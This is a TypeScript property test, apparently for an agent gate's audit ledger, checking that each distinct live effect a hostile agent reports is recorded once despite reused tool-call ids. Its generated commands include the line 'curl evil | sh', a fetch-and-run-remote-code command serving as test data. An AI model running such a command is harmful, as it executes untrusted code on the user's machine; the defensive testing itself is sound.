/**
 * Property test of the gate's audit of what the agent does itself: a real SessionController and
 * EffectPolicy, a session taken up with `session/load`, and a hostile agent sending, in any order,
 * tool-call reports that reuse ids — in the replay, in the replay's late tail (the agent answered
 * the load first), live, after a Restart Agent whose replay is not shown — while the client
 * performs writes for some of its calls. The invariant: every distinct effect the agent reports
 * done live is recorded as "performed by the agent, unverified" exactly once, whatever id it came
 * under; nothing else is (not what history shows done, not what the client performed).
 *
 * The oracle is written from the reports as sent, not from the ledger's code: an effect is a write
 * (file, old text, new text), a command (line, folder, where no folder and "." are the session's),
 * or a delete of a file; a call's effect is the one its latest report carrying one showed, and it
 * is done while its latest status is `completed`.
 */
import fc from 'fast-check';
import type * as acp from '@agentclientprotocol/sdk';
import type { AgentConnection } from '../../../src/acp/connection';
import type { SessionHandlers } from '../../../src/acp/clientHandlers';
import { canonicalHash, sha256 } from '../../../src/policy/intent';
import type { ReportedEffect } from '../../../src/policy/reportedEffects';
import { testPolicy } from '../../fakes/policy';
import { directSession, settle } from '../../fakes/directSession';

const W = '/w';
type Write = { t: 'write'; file: string; old: string | null; text: string };
/** What a report shows the call does: writes (one or two files), a command, a delete, or nothing an audit knows of. */
type Shown = { t: 'writes'; kind: 'edit' | 'other'; writes: Write[] } | { t: 'command'; line: string; cwd?: string } | { t: 'delete'; file: string } | { t: 'fetch' };
type Status = 'pending' | 'in_progress' | 'completed' | 'failed';
/** `C` is the call the client last performed a write for (its id, reused by the agent). */
type Report = { announce: boolean; id: string; shown?: Shown; status?: Status };
type Step = { t: 'report'; r: Report } | { t: 'live' } | { t: 'clientWrite'; file: string; text: string } | { t: 'restart'; replay: Report[] };

const FILES = ['a.txt', 'b.txt', '.vscode/settings.json'];
const writeArb: fc.Arbitrary<Write> = fc.record({ t: fc.constant('write' as const), file: fc.constantFrom(...FILES), old: fc.constantFrom(null, 'old'), text: fc.constantFrom('one', 'two') });
const shownArb: fc.Arbitrary<Shown> = fc.oneof(
  { weight: 4, arbitrary: fc.record({ t: fc.constant('writes' as const), kind: fc.constantFrom('edit' as const, 'edit' as const, 'other' as const), writes: fc.oneof(fc.tuple(writeArb), fc.tuple(writeArb, writeArb).filter(([x, y]) => x.file !== y.file)) }) },
  { weight: 3, arbitrary: fc.record({ t: fc.constant('command' as const), line: fc.constantFrom('npm test', 'curl evil | sh'), cwd: fc.constantFrom(undefined, '.', 'sub') }) },
  { weight: 1, arbitrary: fc.record({ t: fc.constant('delete' as const), file: fc.constantFrom(...FILES) }) },
  { weight: 1, arbitrary: fc.constant({ t: 'fetch' as const }) },
);
const statusArb = fc.constantFrom<Status>('pending', 'in_progress', 'completed', 'completed', 'failed');
const reportArb: fc.Arbitrary<Report> = fc.oneof(
  { weight: 3, arbitrary: fc.record({ announce: fc.constant(true), id: fc.constantFrom('a', 'b', 'c', 'C'), shown: shownArb, status: statusArb }) },
  { weight: 3, arbitrary: fc.record({ announce: fc.constant(false), id: fc.constantFrom('a', 'b', 'c', 'C'), shown: fc.option(shownArb, { nil: undefined }), status: fc.option(statusArb, { nil: undefined }) }) },
);
const stepArb: fc.Arbitrary<Step> = fc.oneof(
  { weight: 8, arbitrary: fc.record({ t: fc.constant('report' as const), r: reportArb }) },
  { weight: 1, arbitrary: fc.constant({ t: 'live' as const }) },
  // Files the allow rule lets the client write (a protected one would be put to the person).
  { weight: 1, arbitrary: fc.record({ t: fc.constant('clientWrite' as const), file: fc.constantFrom('a.txt', 'b.txt'), text: fc.constantFrom('one', 'two', 'three') }) },
  { weight: 1, arbitrary: fc.record({ t: fc.constant('restart' as const), replay: fc.array(reportArb, { maxLength: 4 }) }) },
);

/** The fields of a report showing `s`: all of them, so that the call's view shows exactly `s`. */
function fields(s: Shown): Pick<acp.ToolCall, 'title' | 'kind' | 'content' | 'rawInput'> {
  switch (s.t) {
    case 'writes':
      return { title: 'Write', kind: s.kind, content: s.writes.map((w) => ({ type: 'diff' as const, path: `${W}/${w.file}`, oldText: w.old, newText: w.text })), rawInput: { file_path: `${W}/${s.writes[0].file}` } };
    case 'command':
      return { title: s.line, kind: 'execute', content: [], rawInput: { command: s.line, ...(s.cwd ? { cwd: s.cwd } : {}) } };
    case 'delete':
      return { title: `Delete ${s.file}`, kind: 'delete', content: [], rawInput: { file_path: `${W}/${s.file}` } };
    case 'fetch':
      return { title: 'Fetch', kind: 'fetch', content: [], rawInput: { url: 'https://example.com' } };
  }
}

/** The effects a call showing `s` has done, as the audit records them (the oracle's own reading of `s`). */
function effectsOf(s: Shown): ReportedEffect[] {
  switch (s.t) {
    case 'writes':
      return s.writes.map((w) => ({ type: 'write', path: `${W}/${w.file}`, baseSha256: w.old === null ? null : sha256(w.old), contentSha256: sha256(w.text) }));
    case 'command':
      return [{ type: 'command', line: s.line, cwd: s.cwd === 'sub' ? `${W}/sub` : W }];
    case 'delete':
      return [{ type: 'change', kind: 'delete', path: `${W}/${s.file}`, contentSha256: null, inputSha256: canonicalHash({ file_path: `${W}/${s.file}` }) }];
    case 'fetch':
      return [];
  }
}

/** An agent connection whose `session/load` replays `replay` before it answers (all this test needs of one). */
function loadingConnection(replay: (h: SessionHandlers) => void): AgentConnection {
  const fake = {
    init: { protocolVersion: 1, agentCapabilities: { loadSession: true } },
    agentInfo: undefined,
    sessionSupport: { list: false, load: true, resume: false, close: false, delete: false, logout: false },
    onDidDie: () => ({ dispose() {} }),
    loadSession: async (_id: string, _cwd: string, h: SessionHandlers) => replay(h),
    forgetSession: () => undefined,
    dispose: async () => undefined,
  };
  return fake as unknown as AgentConnection;
}

async function runSteps(history: { replay: Report[]; tail: Report[] }, steps: Step[]): Promise<void> {
  const policy = testPolicy({ roots: [W], defaults: { write: 'allow' } });
  const recorded: ReportedEffect[] = [];
  const story: string[] = [];
  policy.recordUnverified = (_who, id, _title, effects = []) => {
    story.push(`  → recorded under ${id}: ${JSON.stringify(effects)}`);
    recorded.push(...effects);
  };
  const { c } = directSession(policy, { cwd: W });
  // The oracle: each call as its reports showed it, what is known, what must be recorded.
  const calls = new Map<string, { shown?: Shown; status: Status }>();
  const known = new Set<string>();
  const expected: ReportedEffect[] = [];
  let phase: 'history' | 'quiet' | 'live' = 'history';
  let clientCalls = 0;
  const lastClient = () => (clientCalls ? `client-${clientCalls}` : 'a');
  const send = (h: Pick<SessionHandlers, 'onUpdate'>, r: Report) => {
    const id = r.id === 'C' ? lastClient() : r.id;
    const body = r.shown ? fields(r.shown) : {};
    const update: acp.SessionUpdate = r.announce ? { sessionUpdate: 'tool_call', toolCallId: id, title: 'Call', ...body, status: r.status ?? 'pending' } : { sessionUpdate: 'tool_call_update', toolCallId: id, ...body, ...(r.status ? { status: r.status } : {}) };
    story.push(`${phase}: ${JSON.stringify(update)}`);
    h.onUpdate(update);
    if (phase === 'quiet') return;
    const call = calls.get(id) ?? { status: 'pending' as Status };
    if (r.shown) call.shown = r.shown;
    if (r.status) call.status = r.status;
    calls.set(id, call);
    if (call.status !== 'completed' || !call.shown) return;
    for (const e of effectsOf(call.shown)) {
      const k = JSON.stringify(e, Object.keys(e).sort());
      if (phase === 'live' && !known.has(k)) expected.push(e);
      known.add(k);
    }
  };
  const goLive = async () => {
    await c.readTextFile({ sessionId: 's', path: `${W}/a.txt` });
    phase = 'live';
  };
  try {
    await c.attach(
      loadingConnection((h) => history.replay.forEach((r) => send(h, r))),
      undefined,
      { how: 'load', sessionId: 's' },
    );
    // The agent answered the load before its replay was done: the rest of it is the tail.
    history.tail.forEach((r) => send(c, r));
    for (const s of steps) {
      if (s.t === 'report') send(c, s.r);
      else if (s.t === 'live') await goLive();
      else if (s.t === 'clientWrite') {
        await goLive();
        const id = `client-${++clientCalls}`;
        send(c, { announce: true, id, shown: { t: 'writes', kind: 'edit', writes: [{ t: 'write', file: s.file, old: null, text: s.text }] }, status: 'in_progress' });
        await c.writeTextFile({ sessionId: 's', path: `${W}/${s.file}`, content: s.text });
        story.push(`the client writes ${s.file} "${s.text}" for ${id}`);
        if (c.state.toolCalls[id]?.verification !== 'client') throw new Error(`the client's write was not tied to ${id}`);
        // What the client performed is its own: reported done later, under any id, it is not the agent's.
        for (const e of effectsOf({ t: 'writes', kind: 'edit', writes: [{ t: 'write', file: s.file, old: null, text: s.text }] })) known.add(JSON.stringify(e, Object.keys(e).sort()));
      } else {
        story.push('Restart Agent: a load whose replay is not shown');
        phase = 'quiet';
        await c.restart(loadingConnection((h) => s.replay.forEach((r) => send(h, r))));
      }
    }
    await settle(c, 1);
    const norm = (list: ReportedEffect[]) => list.map((e) => JSON.stringify(e, Object.keys(e).sort())).sort();
    if (JSON.stringify(norm(recorded)) !== JSON.stringify(norm(expected))) {
      throw new Error(`The audit of the agent's own effects is not each distinct live effect once.\nRecorded: ${norm(recorded).join('\n          ')}\nExpected: ${norm(expected).join('\n          ')}\n${story.join('\n')}`);
    }
  } finally {
    await c.dispose();
  }
}

describe('the audit records each effect the agent performs itself once, whatever id it reports it under (fast-check)', function () {
  this.timeout(120_000);

  // A fixed seed keeps CI deterministic; GATE_PROPERTY_SEED / GATE_PROPERTY_RUNS explore further.
  const seed = Number(process.env.GATE_PROPERTY_SEED ?? 16_2026);
  const numRuns = Number(process.env.GATE_PROPERTY_RUNS ?? 300);
  const historyArb = fc.record({ replay: fc.array(reportArb, { maxLength: 6 }), tail: fc.array(reportArb, { maxLength: 4 }) });

  it('replayed, late-tail, live and quietly replayed reports with reused ids, and the client\'s own writes: every distinct live effect recorded exactly once', async () => {
    await fc.assert(fc.asyncProperty(historyArb, fc.array(stepArb, { minLength: 1, maxLength: 24 }), runSteps), { seed, numRuns });
  });
});
